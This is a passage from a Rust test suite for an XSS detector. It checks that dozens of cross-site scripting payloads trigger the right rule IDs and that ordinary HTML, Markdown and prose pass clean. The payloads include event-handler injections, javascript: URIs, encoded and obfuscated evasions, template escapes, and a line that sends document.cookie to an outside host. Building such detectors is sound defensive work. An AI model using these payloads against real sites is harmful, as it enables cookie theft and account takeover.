        has("<svg><script>alert(1)</script>", "xss.script-tag");
        has("<svg:script>alert(1)</svg:script>", "xss.script-tag");
        clean("a description of the script and its output");
        clean("<p>The <code>script</code> tag is described below</p>");
    }

    #[test]
    fn event_handlers() {
        has("<img src=x onerror=alert(1)>", "xss.event-handler");
        has("<img/src=x onerror=alert(1)>", "xss.event-handler");
        has("<svg onload=alert(1)>", "xss.event-handler");
        has("<svg/onload=alert(1)", "xss.event-handler");
        has("<body onpageshow=alert(1)>", "xss.event-handler");
        has("<x onafterscriptexecute=alert(1)>", "xss.event-handler");
        has("<a onmouseover\x0b=location='x'>", "xss.event-handler");
        has("\" autofocus onfocus=alert(1) x=\"", "xss.event-handler");
        has("' onmouseover='alert(1)", "xss.event-handler");
        has("x onerror=alert(1);>", "xss.event-handler");
        has("onmouseover=alert(1);", "xss.event-handler");
        has(
            "<animate attributeName=onmouseover to=alert(1)>",
            "xss.event-handler",
        );
        clean("<img src=\"https://example.com/cat.png\" alt=\"A cat\">");
        clean("we are online=true now");
        clean("window.onload is covered in chapter 3");
        clean("<p class=\"one\" id=\"only\">text</p>");
    }

    #[test]
    fn script_urls() {
        has("<a href=\"javascript:alert(1)\">x</a>", "xss.js-uri");
        has("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "xss.js-uri");
        has(
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "xss.js-uri",
        );
        has(
            "<iframe src=\"data:text/html,<svg onload=alert(1)>\">",
            "xss.js-uri",
        );
        has("<form action=javascript:x><button>", "xss.js-uri");
        has(
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "xss.js-uri",
        );
        has("javascript:alert(document.cookie)", "xss.js-uri");
        // A book's title is not a script URL; the same words in lowercase, or code, are.
        clean("JavaScript: The Good Parts");
        clean("JavaScript: The Definitive Guide (7th ed.)");
        has("javascript: the good parts", "xss.js-uri");
        has("javascript: location='//x'", "xss.js-uri");
        has("javascript: Function`x```", "xss.js-uri");
        has(
            "https://example.com/login?next=x&u=javascript:alert(1)",
            "xss.js-uri",
        );
        has(
            "feed:data:text/html,<script>alert(1)</script>",
            "xss.js-uri",
        );
        has("\"javascript:x\"", "xss.js-uri");
        clean("I am reading JavaScript: The Good Parts again");
        clean(
            "<a href=\"https://example.com/docs?lang=javascript\" target=\"_blank\" rel=\"noopener\">docs</a>",
        );
        clean("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">");
    }

    #[test]
    fn dangerous_tags_and_css() {
        has(
            "<iframe src=http://evil.example/x.html <",
            "xss.dangerous-tag",
        );
        has("<object data=x.swf>", "xss.dangerous-tag");
        has("<embed src=x.swf>", "xss.dangerous-tag");
        has("<base href=//evil.example/>", "xss.dangerous-tag");
        has(
            "<meta http-equiv=\"set-cookie\" content=\"a=b\">",
            "xss.dangerous-tag",
        );
        has("<link rel=import href=x.html>", "xss.dangerous-tag");
        has(
            "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
            "xss.dangerous-tag",
        );
        has(
            "<div style=\"width: expression(alert(1))\">",
            "xss.css-expression",
        );
        has(
            "<style>body{-moz-binding:url(x.xml#x)}</style>",
            "xss.css-expression",
        );
        has("s\" style=x:exp/**/ression(alert(1))", "xss.css-expression");
        clean("<p style=\"color: red; text-align: center\">hello</p>");
        clean("<style>p { margin: 0 }</style>");
        clean("Use a regular expression (regex) to match it");
    }

    #[test]
    fn breakouts() {
        has("\"><img src=x>", "xss.attribute-breakout");
        has("'><b>x</b>", "xss.attribute-breakout");
        has("</title><img src=x>", "xss.element-breakout");
        has("</textarea><svg>", "xss.element-breakout");
        // Closing what the value opened is no breakout; closing more than it opened is.
        clean("<html><head><title>June</title><style>p { margin: 0 }</style></head><body>hi");
        has(
            "<title>x</title></title><img src=x>",
            "xss.element-breakout",
        );
    }

    #[test]
    fn the_meta_and_font_links_every_html_email_has_are_plain() {
        for plain in [
            "<meta charset=\"utf-8\">",
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\">",
            "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=edge\">",
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
        ] {
            assert!(!hits(plain).contains(&"xss.dangerous-tag"), "{plain}");
        }
        for dangerous in [
            "<meta charset=\"utf-7\">",
            "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-7\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<meta http-equiv=\"Set-Cookie\" content=\"a=b\">",
            "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=5\">",
        ] {
            has(dangerous, "xss.dangerous-tag");
        }
        for font in [
            "<link href=\"https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap\" rel=\"stylesheet\">",
            "<link rel=\"preconnect\" href=\"https://fonts.gstatic.com\" crossorigin>",
        ] {
            assert!(!hits(font).contains(&"xss.dangerous-tag"), "{font}");
        }
        for sheet in [
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com.evil.example/x.css\">",
            "<link rel=\"stylesheet\" href=\"http://fonts.googleapis.com/x.css\">",
        ] {
            has(sheet, "xss.dangerous-tag");
        }
        clean("<a href=\"https://example.com\"><strong>bold</strong></a>");
        clean("He said \"hello\" and left");
        clean("O'Brien's \"quote\" is 5'10\" tall");
    }

    #[test]
    fn javascript_contexts() {
        has("';alert(1)//", "xss.js-context");
        has(
            "\";alert(String.fromCharCode(88,83,83))//",
            "xss.js-context",
        );
        has("'-prompt(1)-'", "xss.js-context");
        has(
            "');document.location='http://x/'+document.cookie;//",
            "xss.js-context",
        );
        has("`${alert(1)}`", "xss.js-context");
        has(
            "{{constructor.constructor('alert(1)')()}}",
            "xss.template-escape",
        );
        has(
            "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1')}}",
            "xss.template-escape",
        );
        let h = hits("alert(document.cookie)");
        assert!(
            h.contains(&"xss.js-sink") && h.contains(&"xss.js-api"),
            "{h:?}"
        );
        clean("{\"a\":\"b\",\"c\":[1,2]}");
        clean("Hello {{ user.name }}, your order {{ order.id }} shipped");
        clean("It's 5 o'clock; see the prompt (below) and confirm");
    }

    #[test]
    fn cookie_access_and_evasions() {
        has("document.cookie", "xss.cookie-access");
        has("document /*foo*/ .     cookie", "xss.cookie-access");
        has("(document)[\"cookie\"]", "xss.cookie-access");
        has("window[\"alert\"](1)", "xss.js-evasion");
        has("self[/*foo*/\"alert\"](\"xss\")", "xss.js-evasion");
        has("[].sort.call`${alert}1337`", "xss.js-evasion");
        has("(![]+[])[+!+[]]", "xss.js-evasion");
        has("+ADw-script+AD4-alert(1)", "xss.js-evasion");
        clean("Cookies are stored in the document; see the cookie policy");
        clean("![](https://example.com/a.png) and [link](x)");
        clean("items[\"name\"] = value");
    }

    #[test]
    fn handler_split_by_the_query_separator() {
        let name = |t: &str| matches(&DETECTOR, Part::QueryName, "", t, 1);
        assert!(name("x\" onmouseover").contains(&"xss.event-handler"));
        assert!(name("#13; onerror ").contains(&"xss.event-handler"));
        assert!(name("onerror").is_empty());
        assert!(name("sort onload").contains(&"xss.event-handler"));
        assert!(name("page[size]").is_empty());
    }

    #[test]
    fn xml_namespace_tricks() {
        let blocks = |t: &str| {
            let h = hits(t);
            let score: u32 = h
                .iter()
                .filter_map(|id| super::DETECTOR.rules.iter().find(|r| r.id == *id))
                .map(|r| r.severity.score())
                .sum();
            assert!(score >= 5, "{t:?} scores {score}: {h:?}");
        };
        blocks("<math><a xlink:href=\"//evil.example/x.js\">click");
        blocks("<set attributeName=\"xlink:href\" begin=\"accessKey(a)\" to=\"//x/?a\" />");
        blocks(
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">",
        );
        has(
            "<x xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\" ev:handler=\"t#x\"/>",
            "xss.event-handler",
        );
        has(
            "<listener event=\"load\" handler=\"#y\" observer=\"x\"/>",
            "xss.event-handler",
        );
        has("<img xmlns=\"x-schema:test.xdr\"/>", "xss.dangerous-tag");
        has(
            "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?>",
            "xss.xml-namespace",
        );
        has("<:vmlframe src=foo.fml>", "xss.dangerous-tag");
        // Inline SVG icons: foreign, but weak alone.
        assert_eq!(
            hits(
                "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\"><use xlink:href=\"#i\"/></svg>"
            ),
            ["xss.foreign-tag"]
        );
        // Outlook's document settings in an HTML e-mail; VML and other prefixes stay foreign.
        clean(
            "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings><o:shapedefaults v:ext=\"edit\" spidmax=\"1026\"/></xml><![endif]-->",
        );
        has("<v:rect fillcolor=\"#fff\">", "xss.foreign-tag");
        has("<x:script>", "xss.script-tag");
        has("<xo:foo>", "xss.foreign-tag");
    }

    #[test]
    fn css_injection_and_dom_writes() {
        has(
            "<div style=\"font-family:foo}color=red;\">x</div>",
            "xss.css-injection",
        );
        has(
            "<div style=\"background:url(http://a/f oo/;color:red/*/x.jpg);\">",
            "xss.css-injection",
        );
        has(
            "<div style=\"binding: url(http://x/kcf.html)\">",
            "xss.css-expression",
        );
        clean("<div style=\"background:url(data:image/png;base64,iVBOR)\">x</div>");
        let h = hits("document.querySelector(\"p\").textContent=\"XSS\"");
        assert!(
            h.contains(&"xss.dom-write") && h.contains(&"xss.js-api"),
            "{h:?}"
        );
        has("el.innerHTML = '<b>x</b>'", "xss.dom-write");
        clean("https://example.com/search?location=paris&x=1");
        assert!(!hits("if (a.innerHTML == b) return").contains(&"xss.dom-write"));
    }

    #[test]
    fn obfuscations() {
        has(
            "[][(![] [])[ []] ([![]] [][[]])[ ! [] [ []]] (![] [])[! [] ! []]",
            "xss.js-evasion",
        );
        has("self[\"\\x24\"]", "xss.js-evasion");
        has("window['al'+'ert'](1)", "xss.js-evasion");
        has("x<f o r m action=y", "xss.js-evasion");
        clean("![](a.png) ![](b.png) ![](c.png) and [x](y)");
        clean("a < b c d and e");
    }

    #[test]
    fn paranoia_two_tags() {
        assert!(hits_at("<form><input name=q></form>", 2).contains(&"xss.suspicious-tag"));
        assert!(hits_at("<form><input name=q></form>", 1).is_empty());
        assert_eq!(hits_at("<svg><rect/></svg>", 2), ["xss.foreign-tag"]);
    }

    #[test]
    fn rich_html_passes() {
        clean(
            "<h2>Spring sale</h2><p>Save <strong>20%</strong> on <em>all</em> items &amp; more. \
             <a href=\"https://shop.example.com/sale?utm_source=mail&amp;x=1\" target=\"_blank\" \
             rel=\"noopener noreferrer\">Shop now</a></p><ul><li>One</li><li>Two</li></ul>\
             <blockquote>Great!</blockquote><img src=\"https://cdn.example.com/a.jpg\" alt=\"A\" \
             width=\"600\"><table><tr><td style=\"padding:4px;border:1px solid #ccc\">1</td></tr>\
             </table><code>x = y &lt; z</code>",
        );
        clean("[link](https://example.com/a?b=c&d=e) and `code` and ![img](x.png)");
        clean("\\u003cp\\u003eHello\\u003c/p\\u003e");
        clean("john+or@example.com");
    }

    #[test]
    fn handler_in_an_encoded_parameter_name() {
        let name = |t: &str| matches(&DETECTOR, Part::QueryName, "", t, 1);
        assert!(name("  onabcdefgh= ").contains(&"xss.event-handler"));
        assert!(name("x;onanything=1").contains(&"xss.event-handler"));
        assert!(name("online=yes").is_empty());
        assert!(name("filter[status]=on").is_empty());
        assert!(name("a=b onto").is_empty());
    }

    #[test]
    fn lookalike_angle_brackets() {
        has(
            "\u{bc}test\u{be}test(\u{a2}XSS\u{a2})\u{bc}/test\u{be}",
            "xss.js-evasion",
        );
        has("\u{bc}iframe\u{be}", "xss.js-evasion");
        clean("Add 1\u{bc} cups of flour and \u{be} cup of sugar");
        clean("\u{bc}lb butter, \u{bc}lb sugar");
        clean("Gr\u{fc}\u{df}e aus M\u{fc}nchen, \u{fc}ber \u{fe}orn");
    }

    #[test]
    fn tag_evasions() {
        has("< x: script", "xss.js-evasion");
        has("< x: script>alert(1)", "xss.js-evasion");
        has("$<d i a l o g", "xss.js-evasion");
        has("<importimplementation=", "xss.dangerous-tag");
        has(
            "<import foo implementation = \"#default#x\">",
            "xss.dangerous-tag",
        );
        has("'formaction=", "xss.dangerous-tag");
        has(
            "<button formaction=//evil.example>go</button>",
            "xss.dangerous-tag",
        );
        has("<STYLE>@\\\\", "xss.css-injection");
        has("<style>=\\</style>", "xss.css-injection");
        clean("if a < b: script runs");
        clean("when x < y: frame it");
        clean("see < note: frame 3");
        clean("<important>do this</important>");
        clean("The important implementation = ours");
        clean("<style>p::before { content: \"\\201C\" } @media print { p { margin: 0 } }</style>");
        clean("<p>The <em>formaction</em> attribute</p>");
    }

    #[test]
    fn namespaced_unknown_elements() {
        let h = hits(
            "<aai xmlns=\"http://a.b/\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
             xsi:schemaLocation=\"http://a.b/ http://x.example/aai.xsd\">aai</aai>",
        );
        assert!(
            h.contains(&"xss.foreign-tag") && h.contains(&"xss.xml-namespace"),
            "{h:?}"
        );
        assert_eq!(
            hits("<div xmlns=\"http://www.w3.org/1999/xhtml\">hi</div>"),
            ["xss.foreign-tag"]
        );
    }

    #[test]
    fn garbage_does_not_panic() {
        for s in [
            "<",
            "<a",
            "<a b",
            "<a b=",
            "<a b=\"",
            "&#",
            "&#x",
            "'",
            "{{",
            "javascript",
            "<</",
            "</",
            "\"",
            "\"/",
            "on=",
            "\"><",
        ] {
            let _ = hits(s);
        }
    }
}
